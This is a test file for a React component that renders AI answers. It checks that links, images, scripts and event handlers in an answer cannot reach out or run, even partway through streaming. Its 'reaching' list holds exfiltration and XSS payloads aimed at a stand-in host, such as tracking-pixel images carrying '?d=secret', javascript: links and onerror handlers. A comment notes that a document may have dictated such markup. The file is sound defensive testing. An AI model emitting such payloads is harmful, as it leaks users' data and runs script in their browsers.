import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { xssPayloads } from '#e2e/xss-payloads.ts'
import { AnswerText } from './answer-text.tsx'

/** Ways by which an answer could reach out: what is written in it was perhaps dictated by a document. */
const reaching = [
  '[click](https://evil.test/?q=secret) now',
  '[click](javascript:alert(1)) now',
  '[click]( data:text/html;base64,PHNjcmlwdD4=) now',
  '[click](//evil.test/x) now',
  '[click](/\\evil.test/x) now',
  '[click](/\t/evil.test/x) now',
  '[click](https://user@127.0.0.1:3000@evil.test/) now',
  '![pixel](https://evil.test/p.png?d=secret) now',
  '![pixel](data:image/svg+xml;base64,PHN2Zz4=) now',
  '[![pixel](https://evil.test/p.png)](https://evil.test) now',
  '[click][1] now\n\n[1]: https://evil.test/?q=secret "title"\n',
  '![pixel][p] now\n\n[p]: https://evil.test/p.png\n',
  '<https://evil.test/?q=secret> now',
  'https://evil.test/?q=secret now and www.evil.test and mail@evil.test',
  '<a href="https://evil.test" onclick="alert(1)">click</a> now',
  '<img src="https://evil.test/p.png" onerror="alert(1)"> now',
  '<svg onload=alert(1)><image href="https://evil.test/p.png"/></svg> now',
  '<iframe src="https://evil.test"></iframe><script src="https://evil.test"></script> now',
  '<form action="https://evil.test"><input name=q autofocus onfocus=alert(1)><button>ok</button></form>',
  '<style>@import "https://evil.test";</style><link rel=stylesheet href=https://evil.test> now',
  '<div style="background:url(https://evil.test/p.png)">x</div> now',
  '| a | b |\n|---|---|\n| ![p](https://evil.test/p.png) | [c](https://evil.test) |\n',
  '- [x] ![p](https://evil.test/p.png)\n1. <https://evil.test>\n',
  '```html\n<img src=https://evil.test/p.png>\n```\n',
  '```mermaid\ngraph TD; A["<img src=https://evil.test/p.png>"]\n```\n',
  '$$\\href{https://evil.test}{x}$$ and $\\includegraphics{https://evil.test/p.png}$',
]

const tagsOf = (markup: string): string[] => markup.match(/<[a-z][^>]*>/gi) ?? []
/** Whatever in the markup would load, lead away or run. */
const live = (markup: string): string[] =>
  tagsOf(markup).filter(
    (tag) =>
      /^<(img|image|iframe|script|style|link|object|embed|form|video|audio|source|svg|base|meta|math)\b/i.test(tag) ||
      /\s(on\w+|src|srcset|action|formaction|poster|background|ping)\s*=/i.test(tag) ||
      /url\(/i.test(tag) ||
      /\shref="(?!\/(?![/\\]))/i.test(tag),
  )
/** Icons of our own on a block of code are drawings, and load nothing. */
const withoutIcons = (markup: string): string => markup.replace(/<button[^>]*>.*?<\/button>/gs, '')

/** Blocks that stand in a paragraph, which a browser would take out of it. */
const misplaced = (markup: string): string[] => {
  const open: string[] = []
  const found: string[] = []
  for (const [tag, end, name = ''] of markup.matchAll(/<(\/?)([a-z][a-z\d]*)[^>]*>/gi)) {
    if (/^(br|hr|img|input|col|wbr)$/.test(name)) continue
    if (end) open.splice(open.lastIndexOf(name), 1)
    else {
      if (open.includes('p') && /^(p|div|table|ul|ol|pre|blockquote|h\d|details|section)$/.test(name)) found.push(tag)
      open.push(name)
    }
  }
  return found
}

const render = (text: string, streaming: boolean): string =>
  withoutIcons(renderToStaticMarkup(<AnswerText text={text} streaming={streaming} />))

describe('an answer as it comes', () => {
  it.each(reaching)('reaches out at no character: %s', (text) => {
    for (let length = 1; length <= text.length; length += 1) {
      const part = text.slice(0, length)
      expect(live(render(part, true)), part).toEqual([])
    }
    expect(live(render(text, false))).toEqual([])
  })

  it('would be seen to reach out', () => {
    for (const markup of ['<a href="https://a.test">', '<a href="/\\a.test">', '<img src="/a">', '<p onclick="a()">'])
      expect(live(markup)).toEqual([markup])
    expect(live('<a href="/admin">')).toEqual([])
  })

  it('is read by a browser as it was written, whatever markup a model puts into it', () => {
    expect(misplaced('<p>a<p>b</p></p>')).toEqual(['<p>'])
    for (const payload of xssPayloads) {
      const markup = render(`${payload}\n\nSo it stands.`, false)
      expect(misplaced(markup), payload).toEqual([])
      expect(live(markup), payload).toEqual([])
    }
  })

  it('keeps its words, and a link to a place of this site', () => {
    expect(render('[click](https://evil.test) now', false)).toMatch(/click.*now/s)
    expect(render('See [the document](/admin/documents) now', false)).toContain('href="/admin/documents"')
  })
})
